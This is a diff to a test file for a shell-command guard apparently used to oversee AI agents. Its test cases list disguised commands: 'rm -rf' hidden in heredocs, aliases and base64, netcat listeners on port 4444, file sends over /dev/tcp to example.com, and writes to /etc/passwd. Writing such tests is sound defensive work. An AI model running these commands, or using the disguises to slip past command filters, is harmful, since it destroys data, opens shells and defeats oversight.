@@ -1,7 +1,7 @@
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, test } from 'vitest';
-import { isReadOnly } from '../../../../src/tools/guard/command/command-reading.ts';
+import { describeCommand, isReadOnly } from '../../../../src/tools/guard/command/command-reading.ts';
 import { commandRules } from '../../../../src/tools/guard/command/command-rules.ts';
 import { runsOnlyKnown } from '../../../../src/tools/guard/command/known-commands.ts';
 import { readCommands } from '../../../../src/tools/guard/command/read-commands.ts';
@@ -19,16 +19,45 @@ function fate(command: string): 'refused' | 'asked' | 'as usual' {
   return rules.mightForbid(reading) ? 'asked' : 'as usual';
 }
 
-/** One command a line. Each has been run in bash 5.2, where it deletes the folder `build`. */
-const deletions = readFileSync(join(import.meta.dirname, 'bash-disguises.txt'), 'utf8')
-  .trim()
-  .split('\n');
+/** One command a line, with `␤` for the ends of lines in it. */
+const commandsIn = (name: string): readonly string[] =>
+  readFileSync(join(import.meta.dirname, name), 'utf8')
+    .trim()
+    .split('\n')
+    .map((line) => line.replaceAll('␤', '\n'));
+
+/** Each has been run in bash 5.2, where it deletes the folder `build`. */
+const deletions = commandsIn('bash-disguises.txt');
 
 test('nothing that bash expands or evaluates hides a deletion from the rules', () => {
-  expect(deletions.length).toBeGreaterThan(400);
+  expect(deletions.length).toBeGreaterThan(1_000);
   expect(deletions.filter((command) => fate(command) === 'as usual')).toEqual([]);
   expect(deletions.filter((command) => isReadOnly(readCommands(command)))).toEqual([]);
   expect(deletions.filter((command) => rules.allows(readCommands(command)))).toEqual([]);
+});
+
+describe('what a text hands to a program, or writes and then runs, is named on the card', () => {
+  test.each([
+    ["cat > x.sh <<'EOF'\nrm -rf build\nEOF\nsh x.sh", 'Deletes `build` and everything inside.'],
+    ["echo 'rm -rf build' > x; chmod +x x; ./x", 'Deletes `build` and everything inside.'],
+    ['cp /bin/rm x; ./x -rf build', 'Deletes `build` and everything inside.'],
+    ["make -f - <<< 'a: ; rm -rf build'", 'and everything inside. Runs code that Keyturn cannot read (`make`).'],
+    [`f() { python3; }; f <<< 'import shutil; shutil.rmtree("build")'`, 'Deletes files and everything inside.'],
+    ["GIT_EDITOR='rm -rf build;:' git commit", 'Deletes `build` and everything inside.'],
+    ['x=a; x=-r; y=-f; y=b; rm $x $y c', 'Deletes `c` and everything inside.'],
+    ['echo \'"rm -rf build"\' | xargs sh -c', 'Runs code that Keyturn cannot read (`sh`).'],
+    ['touch -- -rf; rm *', 'Deletes `*`. Writes files (`-rf`). Keyturn cannot tell what else it does.'],
+    ['base64 -d x > y; sh y', 'Runs code that Keyturn cannot read'],
+  ])('%j', (command, words) => {
+    expect(describeCommand(readCommands(command))).toContain(words);
+    expect(fate(command)).not.toBe('as usual');
+  });
+});
+
+test('nothing of what people and models write every day is refused or asked about because of its form', () => {
+  const everyday = commandsIn('everyday-commands.txt');
+  expect(everyday.length).toBeGreaterThan(150);
+  expect(everyday.filter((command) => fate(command) !== 'as usual')).toEqual([]);
 });
 
 describe('nor a write to the system, or a way out', () => {
@@ -42,8 +71,15 @@ describe('nor a write to the system, or a way out', () => {
     ¦ cat notes.txt &> /dev/tcp/example.com/80 ¦ x=/dev/tcp; cat notes.txt > $x/example.com/80
     ¦ cat notes.txt > /dev/t{c..c}p/example.com/80 ¦ mapfile < /dev/tcp/example.com/80 ¦ coproc nc -l 4444
     ¦ nc -{l,v} 4444 ¦ nc $'-l' 4444 ¦ n{c,} -l 4444 ¦ {nc,-l,4444} ¦ {reboot,} ¦ r{e,}boot || reboot
+    ¦ f() { nc $1 4444; }; f -l ¦ set -- -l 4444; nc "$@" ¦ a=(-l 4444); nc "$\{a[@]}" ¦ read x <<< -l; nc $x 4444
+    ¦ x=a; x=-l; y=b; nc $x $y ¦ f() { cat > $1; }; f /etc/passwd <<< x ¦ a=(/etc/passwd); tee "$\{a[@]}" <<< x
+    ¦ set -- /etc/passwd; cp a $1 ¦ read x <<< /etc/passwd; echo a > $x ¦ printf -v x %s /etc/passwd; echo a > $x
+    ¦ f() { sh; }; f <<< reboot ¦ echo reboot > r; . ./r ¦ cp /sbin/reboot r; ./r ¦ ln -s /usr/bin/apt-get a; ./a install nmap
+    ¦ echo 'nc -l 4444' > s; sh s ¦ make -f - <<< 'a: ; nc -l 4444' ¦ touch -- -l; nc * 4444 ¦ git config alias.x '!reboot'
+    ¦ GIT_EDITOR='apt-get install x;:' git commit ¦ f() { python3; }; f <<< 'HTTPServer(("", 80), H).serve_forever()'
+    ¦ echo 'HTTPServer(("", 80), H).serve_forever()' > s.py; python3 s.py ¦ alias ls=reboot; ls
     ¦ [[ a ]] && reboot ¦ for ((;;)) { reboot; } ¦ case a in a) ;& b) reboot;; esac ¦ function f { reboot; }; f`.map(
-      (text) => text.replaceAll('\\$', '$'),
+      (text) => text.replaceAll('\\$', '$').replaceAll('\\{', '{'),
     ),
   )('%s', (command) => {
     expect(fate(command)).not.toBe('as usual');
